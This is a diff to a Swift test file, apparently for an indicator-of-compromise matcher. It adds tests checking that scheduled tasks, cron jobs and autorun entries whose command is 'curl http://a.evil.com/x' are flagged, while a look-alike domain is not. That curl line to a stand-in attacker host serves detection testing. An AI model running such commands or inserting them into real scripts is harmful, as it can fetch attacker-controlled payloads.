@@ -90,6 +90,11 @@ import Testing
         for type in ["log line", "eventlog entry", "hosts file entry", "web page visit", "audit log entry"] {
             #expect(loaded.reasons(type: type, [("x", "evil.com")]).count == 1)
         }
+        // Commands that start by themselves tell whom they will call.
+        for type in ["scheduled task", "registry scheduled task", "at job", "cron job", "link info", "autorun entry"] {
+            #expect(loaded.reasons(type: type, [("command", "curl http://a.evil.com/x")]).count == 1)
+            #expect(loaded.reasons(type: type, [("command", "curl http://notevil.com/x")]).isEmpty)
+        }
         #expect(loaded.reasons(type: "registry value", [("value", "evil.com")]).isEmpty)
         // Files are no text.
         #expect(loaded.hits(path: "evil.com", "evil.com").isEmpty)
